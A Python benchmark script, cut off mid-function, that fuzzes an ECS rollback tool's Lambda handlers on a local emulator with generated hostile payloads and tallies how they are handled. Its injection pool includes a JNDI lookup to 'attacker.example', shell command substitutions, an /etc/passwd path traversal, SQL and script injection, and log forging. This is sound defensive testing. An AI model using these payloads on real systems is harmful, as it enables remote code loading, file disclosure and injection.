"""Benchmark: hostile payloads at the three entry points, on the local emulator (figures, no assertions).

    .venv/bin/python -m benchmarks.hostile_input [--count 10000] [--seed 1] [--per-world 500] [--examples 2]

A world with one in-scope service (``prod/web``) running its only release, baked to GOOD: there is no
bad release and nothing older to roll back to, so no payload may change ECS. ``--count`` payloads
(split evenly over ``deployment_events``, ``alarm_events`` and ``manual_rollback``) are made by a
generator seeded with ``--seed`` from the sample events under ``tests/events/`` (rewritten to this
world) and from events the world itself emitted: wrong types, missing and extra fields, huge
strings (a 300 KB alarm dimension, a 1 MB reason), unicode and control characters, deep nesting,
negative and huge numbers, ARNs of other accounts, regions and partitions, services outside the
scope, injection-looking strings, payloads that are no object at all, and reused ids. Each is
handed to the function as Lambda would hand it (``world.invoke``), one after the other.

Every ``--per-world`` payloads the emulator is reset and the world made again (same service, same
state). The emulator's ``TransactWriteItems`` deep-copies the whole table and its stream on every
call, so its cost grows with everything the run ever wrote (real DynamoDB's does not): a young
ledger keeps the run to minutes and the timings meaningful. For the same reason the benchmark
lets go of the copies moto keeps for its dashboard (``forget_tracked_models``): without that a
10,000-payload run holds tens of GB.

The figures, per entry point and per kind of mutation:

- ``refused``: the function answered a refusal (``status: rejected``; the manual function's
  ``error`` answer); ``accepted``: any other answer (the payload passed validation).
- ``unhandled``: an exception escaped the handler (Lambda would report the invocation failed and
  retry an asynchronous one). ``internal``: the manual function's catch-all answered
  ``internal_error`` (an exception it did not expect, turned into an answer).
- ``ECS``: ``ecs.UpdateService`` and ``ecs.RegisterTaskDefinition`` calls the functions made.
- ``writes``: payloads whose handling wrote the ledger (a DynamoDB write call that succeeded),
  and which kinds of item (sort-key prefix) the writes named; the ledger is also scanned before
  and after each world's payloads, and the differences printed by item kind. Writes by the notifier (publishing
  the outbox the handler wrote) are counted apart.
- handler wall time per payload (the stream's notifier run afterwards is not timed): p50, p99, max.

A baseline comes first (in the first world): what a valid OK alarm event (a no-op) and a valid
ALARM event for the service (a decision recorded, no target) write, so the hostile figures can be
read against it. Every case is numbered, and each finding shows ``--examples`` of its cases: the
same ``--seed`` draws the same mutations in the same order (only the ids the world itself draws at
random, deployment and event ids, differ from run to run).
"""

from __future__ import annotations

import argparse
import copy
import itertools
import json
import logging
import os
import random
import reprlib
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import boto3

import benchmarks.in_process  # noqa: F401  (sets the environment the functions load with)
from ecs_rollback.domain.model import ServiceId
from ecs_rollback.observability import logger as product_logger
from ecs_rollback_sandbox.clock import ManualClock
from ecs_rollback_sandbox.emulator import ACCOUNT, Emulator
from ecs_rollback_sandbox.emulator_fixes import forget_tracked_models
from ecs_rollback_sandbox.world import World

ENTRIES = ("deployment_events", "alarm_events", "manual_rollback")
EVENTS = Path(__file__).resolve().parent.parent / "tests" / "events"
CLUSTER, SERVICE, ALARM = "prod", "web", "web-cpu-high"
SHA_V1 = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"
OTHER_ACCOUNT = "999988887777"
LEDGER_WRITES = ("TransactWriteItems", "PutItem", "UpdateItem", "DeleteItem", "BatchWriteItem")
ECS_CHANGES = ("ecs.UpdateService", "ecs.RegisterTaskDefinition")
# Calls that change something somewhere (counted per entry point, beside the ledger and ECS).
SIDE_EFFECT_VERBS = ("Put", "Create", "Delete", "Publish", "Send", "Tag", "Untag", "Update")

# -- value pools ------------------------------------------------------------------------------

UNICODE = [
    "\x00",
    "web\x00",
    "\u202eweb",  # right-to-left override
    "w\u200beb",  # zero-width space
    "\uff57\uff45\uff42",  # full-width "web"
    "w\u0435b",  # Cyrillic e
    "\ud800",  # a lone surrogate (json.loads makes one from "\\ud800")
    "\udfff\ud800",
    "\r\n\t\x0b\x0c",
    "\x1b[31mred\x1b[0m",
    "\ufeffprod",
    "\\",
    '"',
    "a\u0301" * 400,
    "\U0001f525" * 1000,
    "".join(chr(c) for c in range(32)),
    "\u2028\u2029",
    "prod\n",
    " prod",
]
INJECTION = [
    "' OR '1'='1",
    '"; DROP TABLE ledger; --',
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "$(touch /tmp/pwned)",
    "`id`",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "SVC#arn:aws:ecs:us-east-1:123456789012:service/prod/web",
    "RB#",
    "OUT#00000000",
    "STATE",
    "pk = :pk OR attribute_exists(sk)",
    "arn:aws:ecs:us-east-1:123456789012:service/prod/web",
    "prod/web",
    "web:1",
    "last-good",
    "*",
    '\n{"level":"ERROR","message":"forged log line"}',
    "null",
    "[]",
    "{}",
    "__proto__",
    "constructor",
]
NUMBERS: list[Any] = [
    -1,
    0,
    1,
    -(2**63),
    2**63,
    2**64 + 1,
    10**30,
    -(10**30),
    10**4000,  # under CPython's 4,300-digit limit: json.loads still parses it
    1e308,
    -1e308,
    float("inf"),
    float("-inf"),
    float("nan"),
    0.5,
    True,
    False,
]
OTHER_TYPES: list[Any] = [None, True, 0, -1, 1.5, "", "x", [], {}, [None], {"": None}, b"bytes"]
MEGABYTE = "B" * 1_000_000
HUGE: dict[str, str] = {  # shared: strings are immutable, and the generator makes thousands of payloads
    "300 KB": "A" * 300_000,
    "1 MB": MEGABYTE,
    "300 KB multibyte": "\u00e9\U0001f525" * 100_000,
    "70 K NULs": "\x00" * 70_000,
}
BAD_TIMES: list[Any] = [
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "1970-01-01T00:00:00Z",
    "2026-13-45T25:61:61Z",
    "not a time",
    "",
    "2026-11-02T09:00:00.000+9999",
    "9999-12-31T23:59:59.999+0000",
    0,
    -1,
    2**62,
    1e20,
    "2026-11-02",
    "P1D",
]


def arns(kind: str, name: str) -> list[str]:
    """ARNs of ``kind`` (``service``, ``cluster``, ``task-definition``) elsewhere, and broken ones."""
    return [
        f"arn:aws:ecs:us-east-1:{OTHER_ACCOUNT}:{kind}/{name}",
        f"arn:aws:ecs:eu-west-1:{ACCOUNT}:{kind}/{name}",
        f"arn:aws-cn:ecs:cn-north-1:{ACCOUNT}:{kind}/{name}",
        f"arn:aws-us-gov:ecs:us-gov-west-1:{ACCOUNT}:{kind}/{name}",
        f"arn:aws-iso:ecs:us-iso-east-1:{ACCOUNT}:{kind}/{name}",
        f"arn:aws-cn:ecs:us-east-1:{ACCOUNT}:{kind}/{name}",  # another partition, same region and account
        f"arn:aws:ecs:us-east-1:{ACCOUNT[:-1]}:{kind}/{name}",  # 11-digit account
        f"arn:aws:ecs:us-east-1:{ACCOUNT}:{kind}/{name}/extra",
        f"arn:aws:ecs:us-east-1:{ACCOUNT}:{kind}/../{name}",
        f"arn:aws:ecs:US-EAST-1:{ACCOUNT}:{kind}/{name}",
        f"arn:aws:ecs:us-east-1:{ACCOUNT}:{kind}/{name}\n",
        f"arn:aws:ecs:us-east-1:{ACCOUNT}:{kind}/" + "n" * 256,
        f"arn:aws:lambda:us-east-1:{ACCOUNT}:function:{name}",
        f"arn:aws:ecs:us-east-1:{ACCOUNT}:{kind}/{name}".replace(":", "\uff1a"),
    ]


# -- the generator ----------------------------------------------------------------------------


@dataclass
class Bases:
    """What the mutations start from: sample events rewritten to this world, and the world's own."""

    deployment: list[dict[str, Any]]
    alarm: list[dict[str, Any]]
    manual: dict[str, Any]
    deployment_ids: list[str]  # the service's real ECS deployment ids
    service_arn: str
    region: str
    event_ids: list[str] = field(default_factory=list)  # ids handed out so far, for reuse


@dataclass(frozen=True)
class Case:
    index: int
    entry: str
    kind: str
    payload: Any


Mutator = Callable[[random.Random, Bases, Any], tuple[str, Any]]


def load(name: str) -> dict[str, Any]:
    return dict(json.loads((EVENTS / name).read_text()))


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield prefix
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _paths(value, (*prefix, index))


def _get(node: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        node = node[part]
    return node


def _set(node: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    _get(node, path[:-1])[path[-1]] = value
    return node


def _leaf_paths(node: Any, *, strings: bool = False) -> list[tuple[Any, ...]]:
    found = [
        path
        for path in _paths(node)
        if path
        and not isinstance(_get(node, path), dict | list)
        and (not strings or isinstance(_get(node, path), str))
    ]
    return found or [p for p in _paths(node) if p]


def _pick(rng: random.Random, options: list[tuple[str, list[Any]]]) -> tuple[str, list[Any]]:
    return rng.choice(options)


def _nested(rng: random.Random, depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = {rng.choice(["a", "detail", "state", "0"]): value} if rng.random() < 0.5 else [value]
    return value


# Generic mutations: any payload, any place in it.


def drop_field(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    keyed = [p for p in _paths(payload) if p and isinstance(p[-1], str)]
    for path in rng.sample(keyed, k=min(len(keyed), rng.choice([1, 1, 2, 3]))):
        try:
            _get(payload, path[:-1]).pop(path[-1], None)
        except (KeyError, IndexError, TypeError, AttributeError):
            continue  # under a field dropped already
    return "missing field", payload


def extra_field(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    dicts = [p for p in _paths(payload) if isinstance(_get(payload, p), dict)]
    target = _get(payload, rng.choice(dicts))
    key = rng.choice([*INJECTION, *UNICODE, "extra", "Detail", "detail-type ", "ID", "x" * 10_000])
    target[key] = rng.choice([*OTHER_TYPES, *INJECTION, _nested(rng, 50)])
    return "extra field", payload


def wrong_type(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    path = rng.choice([p for p in _paths(payload) if p])
    return "wrong type", _set(payload, path, rng.choice([*OTHER_TYPES, *NUMBERS[:4]]))


def huge_string(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    label, huge = rng.choice(list(HUGE.items()))
    return f"huge string ({label})", _set(payload, rng.choice(_leaf_paths(payload, strings=True)), huge)


def odd_characters(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    path = rng.choice(_leaf_paths(payload, strings=True))
    value = _get(payload, path)
    odd = rng.choice(UNICODE)
    mutated = rng.choice([odd, f"{value}{odd}", f"{odd}{value}"]) if isinstance(value, str) else odd
    return "unicode/control characters", _set(payload, path, mutated)


def injection(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    path = rng.choice(_leaf_paths(payload, strings=True))
    value = _get(payload, path)
    attack = rng.choice(INJECTION)
    mutated = rng.choice([attack, f"{value}{attack}"]) if isinstance(value, str) else attack
    return "injection-looking string", _set(payload, path, mutated)


def deep_nesting(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    # Objects as deep as the Lambda runtime's json.loads still parses (it stops near 1,000 levels).
    depth = rng.choice([10, 100, 500, 900])
    return f"deep nesting ({depth})", _set(
        payload, rng.choice([p for p in _paths(payload) if p]), _nested(rng, depth)
    )


def odd_number(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    return "negative/huge number", _set(payload, rng.choice(_leaf_paths(payload)), rng.choice(NUMBERS))


def not_an_object(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    text = json.dumps(payload)
    choices: list[Any] = [
        None,
        0,
        -1,
        1.5,
        True,
        "",
        "null",
        "[]",
        "{",
        "x" * 20_000,
        b"",
        b"\xff\xfe\x00",
        b"{}",
        [],
        [payload],
        "\x00",
        text,
        text.encode(),
        text[: len(text) // 2],
        float("nan"),
    ]
    return "not an object", rng.choice(choices)


GENERIC: list[tuple[Mutator, int]] = [
    (drop_field, 3),
    (extra_field, 2),
    (wrong_type, 3),
    (huge_string, 2),
    (odd_characters, 2),
    (injection, 2),
    (deep_nesting, 1),
    (odd_number, 2),
    (not_an_object, 1),
]


def reused_id(rng: random.Random, bases: Bases, payload: Any) -> tuple[str, Any]:
    """An event id seen before (another event's, or this service's real deployment id as an id)."""
    pool = bases.event_ids or ["00000000-0000-0000-0000-000000000000"]
    payload["id"] = rng.choice([*pool[-50:], *bases.deployment_ids, ""])
    return "reused event id", payload


def event_header(rng: random.Random, bases: Bases, payload: Any) -> tuple[str, Any]:
    key, values = _pick(
        rng,
        [
            ("source", ["aws.ecs.fake", "AWS.ECS", "aws.cloudwatch", "aws.ecs ", "custom.app", ""]),
            (
                "detail-type",
                [
                    "ECS Deployment State Change ",
                    "ecs deployment state change",
                    "CloudWatch Alarm State Change",
                    "ECS Task State Change",
                ],
            ),
            ("account", [OTHER_ACCOUNT, "0" * 12, "1234", "", ACCOUNT + "0", "12345678901x"]),
            ("region", ["eu-west-1", "cn-north-1", "us-gov-west-1", "", "us-east-1 ", "US-EAST-1", "../.."]),
            ("version", ["1", "", "0" * 1000]),
            ("time", BAD_TIMES),
            ("resources", [[], [""], ["*"], ["arn"] * 10_000]),
        ],
    )
    payload[key] = rng.choice(values)
    return f"header {key}", payload


# Deployment events.


def deployment_service_arn(rng: random.Random, bases: Bases, payload: Any) -> tuple[str, Any]:
    arn = rng.choice(
        [
            *arns("service", f"{CLUSTER}/{SERVICE}"),
            bases.service_arn.replace(f"/{CLUSTER}/", "/staging/"),  # a cluster outside the scope
            bases.service_arn.replace(f"/{SERVICE}", "/ghost"),  # in scope, unknown to ECS
            bases.service_arn.replace(f"/{SERVICE}", "/" + "w" * 255),
            bases.service_arn + rng.choice(INJECTION),
        ]
    )
    shape = rng.choice(["one", "foreign first", "foreign last"])
    payload["resources"] = (
        [arn]
        if shape == "one"
        else [arn, bases.service_arn]
        if shape == "foreign first"
        else [bases.service_arn, arn]
    )
    return f"service ARN elsewhere ({shape})", payload


def deployment_id(rng: random.Random, bases: Bases, payload: Any) -> tuple[str, Any]:
    """Another deployment id; a third of the time the service's real one, in any state (a replay,
    or a FAILED ECS never sent)."""
    value = (
        rng.choice(bases.deployment_ids)
        if rng.random() < 0.33
        else rng.choice(
            [
                "ecs-svc/0000000000000000000",
                "d" * 512,
                "d" * 513,
                "",
                *INJECTION,
                *UNICODE[:6],
                rng.choice(bases.deployment_ids) + " ",
                rng.choice(bases.deployment_ids).upper(),
            ]
        )
    )
    payload["detail"]["deploymentId"] = value
    if value in bases.deployment_ids:
        payload["detail"]["eventName"] = rng.choice(
            ["SERVICE_DEPLOYMENT_IN_PROGRESS", "SERVICE_DEPLOYMENT_COMPLETED", "SERVICE_DEPLOYMENT_FAILED"]
        )
        payload["detail"]["eventType"] = (
            "ERROR" if payload["detail"]["eventName"].endswith("FAILED") else "INFO"
        )
        return "real deployment id, any state", payload
    return "deployment id", payload


def deployment_detail(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    detail = payload["detail"]
    key, values = _pick(
        rng,
        [
            (
                "eventName",
                [
                    "SERVICE_DEPLOYMENT_STOPPED",
                    "service_deployment_failed",
                    "",
                    "SERVICE_TASK_START_IMPAIRED",
                ],
            ),
            ("eventType", ["FATAL", "info", ""]),
            ("updatedAt", BAD_TIMES),
            (
                "reason",
                [
                    "x" * 4096,
                    "x" * 4097,
                    MEGABYTE,
                    "ECS deployment circuit breaker: rolling back to deploymentId ../../../etc.",
                    "rolling back to deploymentId " + "a" * 4000 + "!",
                    "rolling back to deploymentId " * 140,
                    "rolling back to deploymentId ecs-svc/" + "9" * 3000 + ".",
                ],
            ),
        ],
    )
    detail[key] = rng.choice(values)
    return f"detail {key}", payload


# Alarm events.


def _dimensions(payload: dict[str, Any]) -> dict[str, Any] | None:
    metrics = payload.get("detail", {}).get("configuration", {}).get("metrics") or []
    for metric in metrics:
        stat = metric.get("metricStat") if isinstance(metric, dict) else None
        if isinstance(stat, dict) and isinstance(stat.get("metric"), dict):
            dims = stat["metric"].setdefault("dimensions", {})
            return dims if isinstance(dims, dict) else None
    return None


def alarm_dimensions(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    dims = _dimensions(payload)
    if dims is None:
        payload["detail"]["configuration"] = {
            "metrics": [{"id": "m1", "metricStat": {"metric": {"dimensions": {}}}}]
        }
        dims = _dimensions(payload)
        assert dims is not None
    label, huge = rng.choice(list(HUGE.items()))
    key = rng.choice(["ServiceName", "ClusterName"])
    dims.setdefault("ClusterName", CLUSTER)
    dims.setdefault("ServiceName", SERVICE)
    value = rng.choice(
        [
            huge,
            *UNICODE,
            *INJECTION,
            "ghost",
            "staging",
            "",
            f"{CLUSTER}/{SERVICE}",
            f"arn:aws:ecs:us-east-1:{OTHER_ACCOUNT}:service/{CLUSTER}/{SERVICE}",
            "n" * 256,
        ]
    )
    dims[key] = value
    size = f"{label} " if isinstance(value, str) and len(value) >= 70_000 else ""
    return f"dimension {key} {size}hostile".replace("  ", " "), payload


def alarm_tags(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    detail = payload["detail"]
    cluster = rng.choice([CLUSTER, "staging", "", *UNICODE[:5], *INJECTION[:5], "c" * 300_000])
    service = rng.choice([SERVICE, "ghost", "", *UNICODE[:5], *INJECTION[:5], "s" * 300_000])
    detail["alarmTags"] = rng.choice(
        [
            {"ecs-rollback:cluster": cluster, "ecs-rollback:service": service},
            {"ecs-rollback:cluster": cluster},
            {"ecs-rollback:cluster": 5, "ecs-rollback:service": [SERVICE]},
            {f"k{i}": "v" * 256 for i in range(2000)},
            [],
            "tags",
        ]
    )
    detail["alarmTagsStatus"] = rng.choice(["SUCCESS", "FAILURE", "PARTIAL", None, 5, ""])
    return "alarm tags", payload


def alarm_place(rng: random.Random, bases: Bases, payload: Any) -> tuple[str, Any]:
    """The same dimensions (prod/web), but the event or the alarm ARN from somewhere else."""
    account, region, partition = rng.choice(
        [
            (OTHER_ACCOUNT, bases.region, "aws"),
            (ACCOUNT, "eu-west-1", "aws"),
            (ACCOUNT, "cn-north-1", "aws-cn"),
            (ACCOUNT, "us-gov-west-1", "aws-us-gov"),
            (ACCOUNT, bases.region, "aws-cn"),
        ]
    )
    where = rng.choice(["event", "alarm ARN", "both"])
    name = payload["detail"].get("alarmName", ALARM)
    if where in ("event", "both"):
        payload["account"], payload["region"] = account, region
    if where in ("alarm ARN", "both"):
        payload["resources"] = [f"arn:{partition}:cloudwatch:{region}:{account}:alarm:{name}"]
    return f"other account/region/partition ({where})", payload


def alarm_state(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    state = payload["detail"].setdefault("state", {})
    options: list[tuple[str, list[Any]]] = [
        ("value", ["ALARM", "alarm", "OK", "INSUFFICIENT_DATA", "", "ALARM ", None, 1]),
        ("reason", ["r" * 16384, "r" * 16385, MEGABYTE, *INJECTION]),
        ("timestamp", BAD_TIMES),
        ("reasonData", ["{" * 5000, MEGABYTE, {"not": "a string"}]),
    ]
    key, values = rng.choice(options)
    state[key] = rng.choice(values)
    if key != "value":
        state["value"] = "ALARM"
    return f"state {key}", payload


def alarm_shape(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    detail = payload["detail"]
    key = rng.choice(["alarmName", "metrics", "alarmRule", "configuration"])
    if key == "alarmName":
        detail["alarmName"] = rng.choice(
            ["a" * 255, "a" * 256, "", "ghost-alarm", *UNICODE[:8], *INJECTION[:8]]
        )
    elif key == "metrics":
        metric = {
            "id": "m1",
            "metricStat": {"metric": {"dimensions": {"ClusterName": CLUSTER, "ServiceName": SERVICE}}},
        }
        detail.setdefault("configuration", {})["metrics"] = rng.choice(
            [[metric] * 10_000, [{"id": str(i)} for i in range(10_000)], {"m1": metric}, [None], [[metric]]]
        )
    elif key == "alarmRule":
        detail.setdefault("configuration", {})["alarmRule"] = rng.choice(["x" * 300_000, "", *INJECTION[:6]])
    else:
        detail["configuration"] = rng.choice([None, [], "configuration", {"metrics": None}])
    return f"detail {key}", payload


# Manual requests.


def manual_field(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    key, values = _pick(
        rng,
        [
            (
                "cluster",
                [
                    *arns("cluster", CLUSTER),
                    "staging",
                    "c" * 2048,
                    "c" * 2049,
                    "",
                    f"{CLUSTER}/{SERVICE}",
                    *UNICODE[:8],
                ],
            ),
            (
                "service",
                ["ghost", "web ", "w" * 255, "w" * 256, "", "w\u0435b", "prod/web", "*", *INJECTION[:6]],
            ),
            (
                "target",
                [
                    "web:0",
                    "web:-1",
                    "web:99999999999",
                    "web:1",
                    "web:\uff11",
                    "other:1",
                    *arns("task-definition", "web:1"),
                    f"arn:aws:ecs:us-east-1:{ACCOUNT}:task-definition/web:1",
                    SHA_V1[:7],
                    SHA_V1,
                    "deadbeef",
                    "0" * 40,
                    "g" * 40,
                    "LAST-GOOD",
                    " last-good ",
                    "last-good\n",
                    "t" * 2048,
                    "t" * 2049,
                    "",
                    *INJECTION[:8],
                ],
            ),
            ("reason", ["", "   ", "r" * 1024, "r" * 1025, MEGABYTE, *UNICODE, *INJECTION]),
            ("requested_by", [None, "", "u" * 512, "u" * 513, *UNICODE[:8], *INJECTION[:8]]),
            ("dry_run", ["true", 1, 0, None, "false", [], True, False]),
            ("force", ["true", 1, 0, None, "yes", True]),
        ],
    )
    payload[key] = rng.choice(values)
    return f"field {key}", payload


def manual_raw(rng: random.Random, _b: Bases, payload: Any) -> tuple[str, Any]:
    """The request as the JSON text a caller sends (the function accepts str and bytes too)."""
    text = json.dumps(payload)
    depth = rng.choice([100, 990, 5000, 8000])
    choices = {
        "valid JSON text": text,
        "valid JSON bytes": text.encode(),
        "BOM first": "\ufeff" + text,
        "invalid UTF-8": text.encode()[:-2] + b"\xff\xfe",
        "UTF-16": text.encode("utf-16"),
        "truncated": text[:-1],
        "duplicate keys": text[:-1] + ', "cluster": "staging", "service": "ghost"}',
        "NaN": text[:-1] + ', "force": NaN}',
        f"nested {depth} deep": "[" * depth + "]" * depth,
        f"nested object {depth} deep": '{"a":' * depth + "1" + "}" * depth,
        "over 16 KB": text[:-1] + ', "pad": "' + "p" * 16_400 + '"}',
        "huge number": text[:-1] + ', "force": ' + "9" * 5000 + "}",
    }
    label, value = rng.choice(list(choices.items()))
    return f"raw text: {label}", value


SPECIFIC: dict[str, list[tuple[Mutator, int]]] = {
    "deployment_events": [
        (deployment_service_arn, 3),
        (deployment_id, 3),
        (deployment_detail, 3),
        (event_header, 2),
        (reused_id, 1),
    ],
    "alarm_events": [
        (alarm_dimensions, 4),
        (alarm_tags, 2),
        (alarm_place, 3),
        (alarm_state, 3),
        (alarm_shape, 2),
        (event_header, 2),
        (reused_id, 1),
    ],
    "manual_rollback": [(manual_field, 8), (manual_raw, 3)],
}


def _base(rng: random.Random, bases: Bases, entry: str) -> dict[str, Any]:
    if entry == "deployment_events":
        return copy.deepcopy(rng.choice(bases.deployment))
    if entry == "alarm_events":
        return copy.deepcopy(rng.choice(bases.alarm))
    return copy.deepcopy(bases.manual)


def generate(rng: random.Random, bases: Bases, count: int) -> Iterator[Case]:
    """``count`` hostile payloads, the entry points in turn; one to three mutations each."""
    for index in range(count):
        entry = ENTRIES[index % len(ENTRIES)]
        payload: Any = _base(rng, bases, entry)
        if isinstance(payload, dict) and "id" in payload:
            payload["id"] = f"{rng.getrandbits(128):032x}"
        specific, generic = SPECIFIC[entry], GENERIC
        kinds = []
        for step in range(rng.choice([1, 1, 1, 2, 3])):
            pool = specific if step == 0 and rng.random() < 0.6 else generic
            mutator = rng.choices([m for m, _ in pool], weights=[w for _, w in pool])[0]
            if not isinstance(payload, dict) or (step and mutator is not_an_object):
                break  # a payload that is no longer an object takes no further mutation
            try:
                kind, payload = mutator(rng, bases, payload)
            except (KeyError, IndexError, TypeError, AttributeError):
                continue  # an earlier mutation removed what this one edits
            kinds.append(kind)
        if isinstance(payload, dict) and isinstance(payload.get("id"), str):
            bases.event_ids.append(payload["id"])
        yield Case(index, entry, " + ".join(kinds) if kinds else "unmutated", payload)


# -- the world --------------------------------------------------------------------------------


@dataclass
class Writes:
    """The ledger write calls the functions made, and the item kinds (sort-key prefixes) named."""

    kinds: list[str] = field(default_factory=list)

    def record(self, event_name: str, params: dict[str, Any] | None = None, **_: Any) -> None:
        operation = event_name.rsplit(".", 1)[-1]
        if operation not in LEDGER_WRITES or params is None:
            return
        keys: list[dict[str, Any]] = []
        for item in params.get("TransactItems", []):
            for action in ("Put", "Update", "Delete"):
                if action in item:
                    keys.append(item[action].get("Item") or item[action].get("Key") or {})
        keys += [params[key] for key in ("Item", "Key") if key in params]
        for requests in params.get("RequestItems", {}).values():
            keys += [
                r.get("PutRequest", {}).get("Item") or r.get("DeleteRequest", {}).get("Key") or {}
                for r in requests
            ]
        self.kinds += [_item_kind(key) for key in keys]


def _item_kind(key: dict[str, Any]) -> str:
    sort_key = key.get("sk", {}).get("S", "") if isinstance(key.get("sk"), dict) else ""
    return sort_key.split("#", 1)[0] if sort_key else "?"


def make_world(emulator: Emulator, writes: Writes) -> tuple[World, Bases]:
    """prod/web on its only release, baked to GOOD; every function warm, its ledger writes recorded."""
    world = World.direct(emulator, ManualClock(), name="hostile")
    service = world.ecs.service_id(CLUSTER, SERVICE)
    digest = world.push_image(SERVICE, SHA_V1[:12], content=f"{SERVICE}-v1")
    v1 = world.register(
        SERVICE, {"app": f"{world.repository_uri(SERVICE)}@{digest}"}, tags={"ecs-rollback:git-sha": SHA_V1}
    )
    world.ecs.create_service(CLUSTER, SERVICE, v1)
    world.cloudwatch.create_service_alarm(ALARM, CLUSTER, SERVICE)
    started = world.ecs.first_deployment(service)
    world.deliver(started)
    world.clock.advance(timedelta(minutes=3))
    completed = world.ecs.complete(service)
    world.deliver(completed)
    world.clock.advance(timedelta(seconds=world.settings["bake_timer"].bake_time_seconds + 1))
    world.fire_timers()
    world.clock.advance(timedelta(minutes=5))
    world.cloudwatch.set_state(ALARM, "OK")
    live_alarm = world.cloudwatch.set_state(ALARM, "ALARM")
    world.cloudwatch.set_state(ALARM, "OK")

    original = emulator.session

    def hooked() -> boto3.Session:
        session = original()
        session.events.register("provide-client-params.dynamodb.*", writes.record)
        return session

    world._deps.clear()  # rebuilt with the recording session, as warm containers
    emulator.session = hooked  # type: ignore[method-assign]
    try:
        for function in (*ENTRIES, "notifier"):
            world.deps(function)
    finally:
        emulator.session = original  # type: ignore[method-assign]
    world.auto_publish = False  # the benchmark publishes the outbox itself, after timing the handler

    local = {"account": ACCOUNT, "region": emulator.region, "resources": [service.arn]}
    deployment = [
        {**load(name), **local}
        for name in (
            "ecs_deployment_completed.json",
            "ecs_deployment_failed.json",
            "ecs_deployment_failed_circuit_breaker_rollback.json",
            "ecs_deployment_in_progress.json",
            "ecs_deployment_in_progress_ecs_rollback.json",
        )
    ]
    deployment += [started, completed]
    alarm = [
        load(name) for name in ("cloudwatch_alarm_ecs_service_dimensions.json", "cloudwatch_alarm_ok.json")
    ]
    for event in alarm:  # web-cpu-high on prod/web, as the samples already say: this region and account
        event["detail"]["alarmName"] = ALARM
    alarm += [
        load("cloudwatch_alarm_metric_alarm.json"),
        load("cloudwatch_alarm_composite_alarm.json"),
        load("cloudwatch_alarm_with_tags.json"),
        live_alarm,
        live_alarm,
    ]
    deployment_ids = [started["detail"]["deploymentId"]]
    bases = Bases(
        deployment, alarm, load("manual_rollback_request.json"), deployment_ids, service.arn, emulator.region
    )
    return world, bases


def ledger_items(emulator: Emulator, table: str) -> dict[tuple[str, str], str]:
    """Every item of the ledger (by key), as text, read with the emulator's own client."""
    items: dict[tuple[str, str], str] = {}
    for page in (
        emulator.client("dynamodb").get_paginator("scan").paginate(TableName=table, ConsistentRead=True)
    ):
        for item in page["Items"]:
            key = (item["pk"]["S"], item["sk"]["S"])
            items[key] = json.dumps(item, sort_keys=True, default=str)
    return items


def ecs_state(world: World, service: ServiceId) -> tuple[str, list[str]]:
    ecs = world.emulator.client("ecs")
    definitions = ecs.list_task_definitions()["taskDefinitionArns"]
    return world.service_task_definition(service), sorted(definitions)


# -- running and counting ---------------------------------------------------------------------


@dataclass
class Result:
    case: Case
    answer: str
    refused: bool
    unhandled: str | None
    internal: bool
    ecs_changes: int
    write_calls: int
    written: list[str]
    notifier_writes: int
    side_effects: list[str]
    seconds: float


class ErrorLog(logging.Handler):
    """Counts the product's ERROR log lines (kept off the terminal during the run)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.messages: Counter[str] = Counter()

    def emit(self, record: logging.LogRecord) -> None:
        self.messages[str(record.msg)[:100]] += 1


def _answer(entry: str, result: Any) -> tuple[str, bool, bool]:
    """(answer in a few words, refused?, internal error?)."""
    if not isinstance(result, dict):
        return f"non-dict answer {type(result).__name__}", False, False
    if entry == "manual_rollback":
        if "error" in result:
            return f"error {result['error']}", True, result["error"] == "internal_error"
        return f"{result.get('outcome')} {result.get('code', '')}".strip(), False, False
    status = str(result.get("status"))
    if status == "decided":
        outcomes = sorted(
            {f"{d.get('outcome')} {d.get('code', '')}".strip() for d in result.get("decisions", [])}
        )
        return f"decided: {', '.join(outcomes)}", False, False
    decision = result.get("decision")
    if isinstance(decision, dict):
        return f"{status}: {decision.get('outcome')} {decision.get('code', '')}".strip(), False, False
    return status, status == "rejected", False


def run_case(world: World, writes: Writes, case: Case) -> Result:
    forget_tracked_models()
    world.calls.clear()
    world.answered.clear()
    world.delivered.clear()
    writes.kinds.clear()
    unhandled = None
    result: Any = None
    started = time.perf_counter()
    try:
        result = world.invoke(case.entry, case.payload)
    except Exception as error:
        unhandled = f"{type(error).__name__}: {str(error)[:160]}"
    seconds = time.perf_counter() - started
    answer, refused, internal = (
        _answer(case.entry, result) if unhandled is None else ("exception", False, False)
    )
    calls = list(world.calls)
    write_calls = sum(1 for _, name in world.answered if name.split(".", 1)[1] in LEDGER_WRITES)
    written = list(writes.kinds)
    notifier_writes = 0
